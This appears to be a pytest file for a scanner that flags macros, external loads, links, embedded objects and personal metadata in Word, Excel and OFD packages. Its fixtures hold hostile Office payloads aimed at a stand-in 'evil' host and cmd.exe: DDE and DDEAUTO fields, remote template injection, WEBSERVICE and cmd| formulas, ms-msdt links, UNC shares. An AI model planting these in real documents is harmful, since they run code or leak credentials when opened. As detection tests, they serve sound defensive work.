"""Packages of Office and OFD: what must not be in them is found however the format lets one spell it."""

import pytest

from forms import attachments as make
from forms.attachments import related, word
from quanli.forms.content import findings

RUN = "<w:r><w:instrText>{}</w:instrText></w:r>"
BEGIN, END = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
UNC = "\\\\\\\\evil\\\\share\\\\a.docx"
VML = '<w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="{}"/></v:rect></w:pict></w:r>'
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><{} ContentType="{}"/></Types>'
OWN = '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"><property name="{}"><vt:lpwstr xmlns:vt="v">{}</vt:lpwstr></property></Properties>'
APP = '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><{0}>{1}</{0}></Properties>'
SETTINGS = f"<w:settings {make.W}>{{}}</w:settings>"
TITLE = '<c:coreProperties xmlns:c="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"><d:title xmlns:d="http://purl.org/dc/elements/1.1/">{}</d:title></c:coreProperties>'
MACRO = "application/vnd.ms-office.vbaProject"


def told(data, suffix):
    """Give what is said of a file, in English."""
    return [f"{rule.code} " + rule.en.format_map({"path": "", "type": suffix.upper(), **args}).strip() for rule, args in findings(data, f".{suffix}")]


def sheet(body):
    """Make a sheet of a workbook."""
    return f"<worksheet {make.S}>{body}</worksheet>"


WORD = {
    # macros, whatever their part is called and however its type is told
    "macro in another part": ({"word/theme.bin": b"x", "word/_rels/document.xml.rels": related("vbaProject", "theme.bin")}, "MACRO contains macros"),
    "type in another case": ({"word/x.bin": b"x", "word/_rels/document.xml.rels": related("VBAPROJECT", "x.bin")}, "MACRO contains macros"),
    "type of a default": ({"[Content_Types].xml": TYPES.format('Default Extension="png"', MACRO)}, "MACRO contains macros"),
    "type of one part": ({"[Content_Types].xml": TYPES.format('Override PartName="/word/a.png"', MACRO.upper())}, "MACRO contains macros"),
    "a macro document by its type": ({"[Content_Types].xml": TYPES.format('Override PartName="/word/document.xml"', "application/vnd.ms-word.document.macroEnabled.main+xml")}, "MACRO contains macros"),
    "name with a backslash": ({"word\\vbaProject.bin": b"x"}, "MACRO contains macros"),
    "name with escapes": ({"word/vba%50roject.bin": b"x"}, "MACRO contains macros"),
    "name in the root": ({"VBAPROJECT.BIN": b"x"}, "MACRO contains macros"),
    "a button that runs a macro": ({"word/document.xml": word(BEGIN + RUN.format("MACROBUTTON x y") + END)}, "MACRO contains macros"),
    # what is loaded
    "mode in another case": ({"word/_rels/settings.xml.rels": related("attachedTemplate", "http://evil/t.dotm", "external")}, "EXTERNAL_LINK loads http://evil/t.dotm when opened"),
    "no mode at all": ({"word/_rels/settings.xml.rels": related("attachedTemplate", "http://evil/t.dotm")}, "EXTERNAL_LINK loads http://evil/t.dotm when opened"),
    "strict namespace": ({"word/_rels/document.xml.rels": related("image", "http://evil/a.png", "External", strict=True)}, "EXTERNAL_LINK loads http://evil/a.png when opened"),
    "in UTF-16": ({"word/_rels/document.xml.rels": related("frame", "\\\\evil\\a", "External").encode("utf-16")}, "EXTERNAL_LINK loads \\\\evil\\a when opened"),
    "a share without mode": ({"word/_rels/document.xml.rels": related("subDocument", "\\\\evil\\a.docx")}, "EXTERNAL_LINK loads \\\\evil\\a.docx when opened"),
    "relations in capitals": ({"WORD/_RELS/DOCUMENT.XML.RELS": related("image", "http://evil/", "External")}, "EXTERNAL_LINK loads http://evil/ when opened"),
    "a field in one word": ({"word/document.xml": word('<w:fldSimple w:instr="includetext &quot;http://evil/&quot;"/>')}, "EXTERNAL_LINK loads http://evil/ when opened"),
    "a field in pieces": ({"word/document.xml": word(BEGIN + "".join(RUN.format(part) for part in ("D", "DE", "AU", 'TO "c:\\\\cmd.exe" "/c"')) + END)}, "EXTERNAL_LINK loads c:\\cmd.exe when opened"),
    "a field after another": ({"word/document.xml": word(BEGIN + RUN.format("PAGE") + END + BEGIN + RUN.format("INCLUDEPICTURE http://evil/") + END)}, "EXTERNAL_LINK loads http://evil/ when opened"),
    "a field in a field": ({"word/document.xml": word(BEGIN + RUN.format("QUOTE ") + BEGIN + RUN.format('LINK Excel.Sheet "http://evil/x"') + END + END)}, "EXTERNAL_LINK loads http://evil/x when opened"),
    "a field that never ends": ({"word/document.xml": word(BEGIN + RUN.format("DDE cmd x"))}, "EXTERNAL_LINK loads cmd when opened"),
    "a field in the strict namespace": ({"word/document.xml": word(BEGIN + RUN.format("DDE cmd x") + END, strict=True)}, "EXTERNAL_LINK loads cmd when opened"),
    "a field in the footer": ({"word/footer1.xml": word(BEGIN + RUN.format("RD http://evil/") + END)}, "EXTERNAL_LINK loads http://evil/ when opened"),
    "a deleted field": ({"word/footer1.xml": "<w:x xmlns:w='u'><w:delInstrText>DDE cmd x</w:delInstrText></w:x>"}, "EXTERNAL_LINK loads cmd when opened"),
    "a picture by its address": ({"word/document.xml": word(VML.format("file://evil/a.png"))}, "EXTERNAL_LINK loads file://evil/a.png when opened"),
    "a base of links": ({"docProps/app.xml": APP.format("HyperlinkBase", "\\\\evil\\a")}, "EXTERNAL_LINK loads \\\\evil\\a when opened"),
    # links that wait for a click
    "a link to a share": ({"word/_rels/document.xml.rels": related("hyperlink", "file://evil/share", "External")}, "LINK_TARGET has a link to file://evil/share"),
    "a link to a script": ({"word/_rels/document.xml.rels": related("hyperlink", "JavaScript:x", "External")}, "LINK_TARGET has a link to JavaScript:x"),
    "a link with escapes": ({"word/_rels/document.xml.rels": related("hyperlink", "%5C%5Cevil%5Ca", "External")}, "LINK_TARGET has a link to %5C%5Cevil%5Ca"),
    "a link to a program": ({"word/document.xml": word(BEGIN + RUN.format('HYPERLINK "ms-msdt:/id"') + END)}, "LINK_TARGET has a link to ms-msdt:/id"),
    "a link to a share in a field": ({"word/document.xml": word(BEGIN + RUN.format(f'HYPERLINK "{UNC}"') + END)}, "LINK_TARGET has a link to \\\\evil\\share\\a.docx"),
    # objects, whatever they are called
    "an object as a picture": ({"word/media/image1.png": b"\xd0\xcf\x11\xe0"}, "ACTIVE_CONTENT has an embedded object"),
    "a program": ({"word/media/image1.emf": b"MZ\x90\0"}, "ACTIVE_CONTENT has an embedded object"),
    "a file in the file": ({"word/media/image1.jpeg": b"PK\x03\x04"}, "ACTIVE_CONTENT has an embedded object"),
    "a page": ({"word/afchunk.html": b"<html><br></html>"}, "ACTIVE_CONTENT has an embedded object"),
    "another document": ({"word/a.rtf.txt": b"{\\rtf1}"}, "ACTIVE_CONTENT has an embedded object"),
    "a part that is put in": ({"word/_rels/document.xml.rels": related("aFChunk", "a.mht")}, "ACTIVE_CONTENT has another document"),
    "an object by its relation": ({"word/_rels/document.xml.rels": related("oleObject", "a.bin")}, "ACTIVE_CONTENT has an embedded object"),
    "an add-in": ({"word/_rels/document.xml.rels": related("webExtension", "a.xml")}, "ACTIVE_CONTENT has an add-in"),
    # people
    "a name of one's own": ({"docProps/custom.xml": OWN.format("经办人", "张三")}, "DOC_METADATA holds the name of its author (张三) in its properties"),
    "a name under any word": ({"docProps/CUSTOM.XML": OWN.format("x", "张三")}, "DOC_METADATA holds the name of its author (张三) in its properties"),
    "an address": ({"docProps/custom.xml": OWN.format("x", "zs@example.cn")}, "DOC_METADATA holds the name of its author (zs@example.cn) in its properties"),
    "a number": ({"docProps/custom.xml": OWN.format("x", "13800000000")}, "DOC_METADATA holds the name of its author (13800000000) in its properties"),
    "properties elsewhere": ({"a.xml": make.CORE.format("", "李四")}, "DOC_METADATA holds the name of its author (李四) in its properties"),
    "properties in UTF-16": ({"docProps/core.xml": make.CORE.format("李四", "").encode("utf-16")}, "DOC_METADATA holds the name of its author (李四) in its properties"),
    "a manager": ({"docProps/app.xml": APP.format("Manager", "李四")}, "DOC_METADATA holds the name of its author (李四) in its properties"),
    "an editor in data": ({"customXml/item1.xml": "<p><UserInfo><DisplayName>李四</DisplayName></UserInfo></p>"}, "DOC_METADATA holds the name of its author (李四) in its properties"),
    "a change of format": ({"word/document.xml": word("<w:p><w:pPr><w:pPrChange/></w:pPr></w:p>")}, "DOC_METADATA holds tracked changes in its properties"),
    "a change in the strict namespace": ({"word/document.xml": word("<w:ins/>", strict=True)}, "DOC_METADATA holds tracked changes in its properties"),
    "comments elsewhere": ({"word/x.xml": f"<w:comments {make.W}/>"}, "DOC_METADATA holds comments in its properties"),
    "comments by their relation": ({"word/_rels/document.xml.rels": related("comments", "x.xml")}, "DOC_METADATA holds comments in its properties"),
    "hidden text": ({"word/document.xml": word("<w:r><w:rPr><w:vanish/></w:rPr><w:t>内情</w:t></w:r>")}, "HIDDEN_CONTENT holds hidden text, which whoever opens it can see"),
    "a variable": ({"word/settings.xml": SETTINGS.format('<w:docVars><w:docVar w:name="拟稿人" w:val="张三"/></w:docVars>')}, "DOC_METADATA holds the name of its author (张三) in its properties"),
    "a title that is a number": ({"docProps/core.xml": TITLE.format("11010519491231002X")}, "DOC_METADATA holds the name of its author (11010519491231002X) in its properties"),
    "a number in a property of one's own": ({"docProps/custom.xml": OWN.format("编号", "110105 19491231 002X")}, "DOC_METADATA holds the name of its author (110105 19491231 002X) in its properties"),
    "a database for letters": ({"word/settings.xml": SETTINGS.format('<w:mailMerge><w:connectString w:val="Data Source=\\\\evil\\a"/></w:mailMerge>')}, "EXTERNAL_LINK loads Data Source=\\\\evil\\a when opened"),
    # damage
    "entities": ({"word/x.xml": '<!DOCTYPE a [<!ENTITY b "&c;&c;"><!ENTITY c "x">]><a>&b;</a>'.encode("utf-16")}, "TYPE_MISMATCH is not a DOCX file"),
}


@pytest.mark.parametrize("case", WORD)
def test_a_word_file_is_read_as_word_reads_it(case):
    """However it is spelled, it is found, and nothing else is said."""
    parts, said = WORD[case]
    assert told(make.docx(**parts), "docx") == [said]


NAME = "<workbook " + make.S + '><sheets><sheet name="表" sheetId="1"{}/></sheets>{}</workbook>'
BOOK = {
    "a page in a formula": ({"xl/worksheets/sheet1.xml": sheet('<c><f>_xlfn.WEBSERVICE("http://evil/"&amp;A1)</f></c>')}, "EXTERNAL_LINK loads http://evil/ when opened"),
    "a formula in small letters": ({"xl/worksheets/sheet1.xml": sheet('<c><f>1+webservice( "http://evil/")</f></c>')}, "EXTERNAL_LINK loads http://evil/ when opened"),
    "a picture": ({"xl/worksheets/sheet1.xml": sheet("<c><f>IMAGE(A1)</f></c>")}, "EXTERNAL_LINK loads IMAGE when opened"),
    "a program": ({"xl/worksheets/sheet1.xml": sheet("<c><f>cmd|'/c calc'!A0</f></c>")}, "EXTERNAL_LINK loads cmd|'/c calc'!A0 when opened"),
    "a program in a name": ({"xl/workbook.xml": NAME.format("", "<definedNames><definedName name='a'>MSEXCEL|'\\..\\cmd.exe'!x</definedName></definedNames>")}, "EXTERNAL_LINK loads MSEXCEL|'\\..\\cmd.exe'!x when opened"),
    "a program in a check": ({"xl/worksheets/sheet1.xml": sheet("<dataValidation><formula1>cmd|'x'!A0</formula1></dataValidation>")}, "EXTERNAL_LINK loads cmd|'x'!A0 when opened"),
    "another program's data": ({"xl/externalLinks/externalLink1.xml": f'<externalLink {make.S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}, "EXTERNAL_LINK loads cmd|/c calc when opened"),
    "another workbook": ({"xl/worksheets/sheet1.xml": sheet("<c><f>'\\\\evil\\[a.xlsx]表'!A1</f></c>")}, "EXTERNAL_LINK loads \\\\evil\\[a.xlsx]表 when opened"),
    "another workbook by relation": ({"xl/externalLinks/_rels/externalLink1.xml.rels": related("externalLinkPath", "a.xlsx", "External")}, "EXTERNAL_LINK loads a.xlsx when opened"),
    "a connection": ({"xl/x.xml": f'<connections {make.S}><connection><dbPr connection="Provider=x"/></connection></connections>'}, "EXTERNAL_LINK loads Provider=x when opened"),
    "a link": ({"xl/worksheets/sheet1.xml": sheet('<c><f>HYPERLINK("file://evil/a","甲")</f></c>')}, "LINK_TARGET has a link to file://evil/a"),
    "a macro sheet": ({"xl/x.xml": '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'}, "MACRO contains macros"),
    "a macro sheet by relation": ({"xl/_rels/workbook.xml.rels": related("xlMacrosheet", "x.xml")}, "MACRO contains macros"),
    "a name that runs by itself": ({"xl/workbook.xml": NAME.format("", '<definedNames><definedName name="_xlnm.Auto_Open">A1</definedName></definedNames>')}, "MACRO contains macros"),
    "a function of the system": ({"xl/worksheets/sheet1.xml": sheet('<c><f>CALL("urlmon","x","y")</f></c>')}, "MACRO contains macros"),
    "a query": ({"customXml/item1.xml": '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">x</DataMashup>'}, "ACTIVE_CONTENT has a data query"),
    "a hidden sheet": ({"xl/workbook.xml": NAME.format(' state="veryHidden"', "")}, "HIDDEN_CONTENT holds a hidden sheet (表), which whoever opens it can see"),
    "a hidden row": ({"xl/worksheets/sheet1.xml": sheet('<row hidden="1"><c><v>1</v></c></row>')}, "HIDDEN_CONTENT holds hidden rows, which whoever opens it can see"),
    "who reserved it": ({"xl/workbook.xml": NAME.format("", '<fileSharing userName="张三"/>')}, "DOC_METADATA holds the name of its author (张三) in its properties"),
    "where it was saved": ({"xl/workbook.xml": NAME.format("", '<a:absPath xmlns:a="u" url="C:\\Users\\zhangsan\\Desktop\\"/>')}, "HIDDEN_CONTENT holds a user's name in the place where it was saved (zhangsan), which whoever opens it can see"),
    "people who commented": ({"xl/x.xml": '<personList xmlns="u"><person displayName="张三"/></personList>'}, "DOC_METADATA holds comments in its properties"),
    "tracked changes": ({"xl/revisions/x.xml": f"<headers {make.S}/>"}, "DOC_METADATA holds tracked changes in its properties"),
    "a binary workbook": ({"[Content_Types].xml": TYPES.format('Default Extension="bin"', "application/vnd.ms-excel.sheet.binary.main")}, "NOT_EXAMINED cannot be looked into: it is a binary workbook"),
}


@pytest.mark.parametrize("case", BOOK)
def test_a_workbook_is_read_as_excel_reads_it(case):
    """However it is spelled, it is found, and nothing else is said."""
    parts, said = BOOK[case]
    assert told(make.xlsx(**parts), "xlsx") == [said]


OFD = "<o:OFD xmlns:o='x'>{}</o:OFD>"
ACTION = "<o:Document xmlns:o='x'><o:Action Event='DO'>{}</o:Action></o:Document>"


@pytest.mark.parametrize(("parts", "said"), [
    ({"OFD.xml": OFD.format(""), "Doc_0/Attachs/Attachments.xml": "<o:Attachments xmlns:o='x'><o:Attachment Name='a.exe'/></o:Attachments>"}, "ACTIVE_CONTENT has an attached file"),
    ({"OFD.xml": OFD.format(""), "Doc_0/Annots/a.xml": "<o:PageAnnot xmlns:o='x'><o:Annot Creator='张三'/></o:PageAnnot>"}, "DOC_METADATA holds the name of its author (张三) in its properties"),
    ({"OFD.xml": OFD.format("<o:CustomDatas><o:CustomData Name='拟稿人'>张三</o:CustomData></o:CustomDatas>")}, "DOC_METADATA holds the name of its author (张三) in its properties"),
    ({"OFD.xml": OFD.format("<o:Title>张三 13812345678</o:Title>")}, "DOC_METADATA holds the name of its author (张三 13812345678) in its properties"),
    ({"OFD.xml": OFD.format(""), "Doc_0/Document.xml": ACTION.format("<o:URI URI='javascript:x'/>")}, "LINK_TARGET has a link to javascript:x"),
    ({"OFD.xml": OFD.format(""), "Doc_0/Document.xml": ACTION.format("<o:URI URI='a' Base='file://evil/'/>")}, "LINK_TARGET has a link to file://evil/"),
    ({"OFD.xml": OFD.format(""), "Doc_0/Document.xml": ACTION.format("<o:GotoA AttachID='1'/>")}, "ACTIVE_CONTENT has an attached file"),
    ({"OFD.xml": OFD.format(""), "Doc_0/Document.xml": ACTION.format("<o:Sound ResourceID='1'/>")}, "ACTIVE_CONTENT has sound or video"),
    ({"OFD.xml": OFD.format(""), "Doc_0/DocumentRes.xml": "<o:Res xmlns:o='x'><o:MultiMedia Type='Video'/></o:Res>"}, "ACTIVE_CONTENT has sound or video"),
])
def test_an_ofd_file_is_looked_into(parts, said):
    """Attached files, names on annotations and in properties, where actions lead and what they play are found."""
    assert told(make.docx(**parts), "ofd") == [said]


QUIET = {
    "a page, a mail address, a phone": ("docx", make.docx(**{"word/_rels/document.xml.rels": related("hyperlink", "https://example.gov.cn/a?b=file:c", "External"), "word/_rels/a.xml.rels": related("hyperlink", "mailto:a@b.cn", "External"), "word/_rels/b.xml.rels": related("hyperlink", "#甲", "External")})),
    "fields that fetch nothing": ("docx", make.docx(**{"word/document.xml": word("".join(BEGIN + RUN.format(field) + END for field in ("PAGE", 'TOC \\o "1-3"', 'HYPERLINK "http://a.gov.cn/link dde"', "HYPERLINK \\l a", "REF dde", 'DATE \\@ "yyyy"')))})),
    "text that is shown": ("docx", make.docx(**{"word/document.xml": word('<w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>甲</w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t> </w:t></w:r><w:r><w:t>乙</w:t></w:r>')})),
    "properties that name nobody": ("docx", make.docx(**{"docProps/custom.xml": OWN.format("KSOProductBuildVer", "2052-11.1.0.14309"), "docProps/app.xml": APP.format("Company", "某局"), "a/custom.xml": OWN.format("ICV", "0A1B2C3D4E5F60718293A4B5C6D7E8F9"), "b/custom.xml": OWN.format("密级", "公开"), "c/custom.xml": OWN.format("审核", "某市应急管理局")})),
    "formulas that fetch nothing": ("xlsx", make.xlsx(**{"xl/worksheets/sheet1.xml": sheet('<row hidden="0"><c><f>SUM(A1:B2)+IF(A1="WEBSERVICE(|",1,\'甲|乙\'!A1)</f><v>1</v></c><c><f>Recall(1)+表[[#This Row],[x]]</f></c></row><row hidden="1"/>')})),
    "a sheet by another name": ("xlsx", make.docx(**{"word/document.xml": "<x/>", "xl/book.xml": f"<workbook {make.S}/>", "_rels/.rels": related("officeDocument", "xl/book.xml")})),
    "strict": ("docx", make.docx(**{"word/document.xml": word("<w:p/>", strict=True)})),
    "main part in capitals": ("docx", make.docx(**{"word/document.xml": "<x/>", "WORD/Document2.xml": word(""), "_rels/.rels": related("officeDocument", "/word/document2.xml")})),
    "made by this program's own writer": ("wps", make.docx()),
}


@pytest.mark.parametrize("case", QUIET)
def test_what_may_be_there_is_not_told(case):
    """Pages to link to, fields, formulas and properties that name nobody raise nothing."""
    suffix, data = QUIET[case]
    assert told(data, suffix) == []


@pytest.mark.parametrize(("suffix", "data"), [
    ("docx", make.xlsx(**{"word/document.xml": "", "_rels/.rels": related("officeDocument", "xl/workbook.xml")}).replace(b"word/document.xml", b"word/dokument.xml")),
    ("docx", make.docx() + b"<html>"), ("wps", make.docx().replace(b"word/document.xml", b"word/dokument.xml")),
])
def test_a_file_that_is_something_else_is_refused(suffix, data):
    """What is another kind of file, or two files in one, is no such file."""
    assert f"TYPE_MISMATCH is not a {suffix.upper()} file" in told(data, suffix)


def test_a_message_shows_no_signs_that_steer(tmp_path):
    """What a file says is told without signs that move a terminal's cursor, and not at any length."""
    target = "http://evil/&#x202E;" + "a" * 500
    (said,) = told(make.docx(**{"word/_rels/a.xml.rels": related("image", target, "External")}), "docx")
    assert said == "EXTERNAL_LINK loads http://evil/" + "a" * 188 + " when opened"
